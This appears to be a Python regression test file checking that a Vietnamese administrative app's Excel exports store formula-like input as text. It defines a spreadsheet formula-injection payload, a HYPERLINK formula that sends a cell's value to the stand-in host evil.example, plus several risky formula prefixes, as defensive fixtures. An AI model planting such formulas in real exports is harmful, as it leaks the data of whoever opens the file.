"""Issue #12, defects 3, 5 and 11: formula injection in exports, 500s on edge input,
unbounded reasons and notes, bare HTML 400s."""

import io
import re
import zipfile

from openpyxl import load_workbook

from tinhso.catalog.exchange import excel_format
from tinhso.catalog.exchange.document import export_document
from tinhso.dossiers.models import Dossier
from tinhso.metrics.exports import workbook

FORMULA = '=HYPERLINK("http://evil.example/?x="&E2,"Bấm xem")'
RISKY = [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1"]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist()
                       if n.startswith("xl/worksheets/"))


def _assert_text_only(data: bytes, expected: list[str]):
    assert not re.search(r"<f[ >]", _sheet_xml(data))  # no formula anywhere
    book = load_workbook(io.BytesIO(data))
    cells = {c.value: c for ws in book.worksheets for r in ws.iter_rows() for c in r}
    for text in expected:
        assert cells[text].data_type == "s", text


# --- 3: formula injection in Excel exports.


def test_office_export_writes_an_applicant_formula_as_text(province, make_dossier, login):
    # Written directly: how the name got in (a desk intake, an import) does not matter here.
    Dossier.objects.filter(pk=make_dossier().pk).update(applicant_name=FORMULA)
    response = login(province.officer).get("/office/dossiers/export.xlsx")
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    _assert_text_only(data, [FORMULA])


def test_dashboard_tables_write_text_as_text():
    data = workbook("Bảng", ["Tên", "Số"], [[text, 1] for text in RISKY], notes=["=note"])
    # (XML reads a carriage return back as a line feed: that cell is checked by the XML.)
    _assert_text_only(data, [*(t for t in RISKY if "\r" not in t), "=note"])


def test_catalogue_workbook_writes_formulas_as_text_and_reads_them_back(province):
    document = export_document()
    document["procedures"][0]["name"] = FORMULA
    document["sectors"][0]["name"] = "-Hộ tịch"
    data = excel_format.dump(document)
    _assert_text_only(data, [FORMULA, "-Hộ tịch"])
    raw = excel_format.read(data)
    assert not raw.problems
    assert raw.procedures[0].row.data["name"] == FORMULA
    assert raw.sectors[0].data["name"] == "-Hộ tịch"
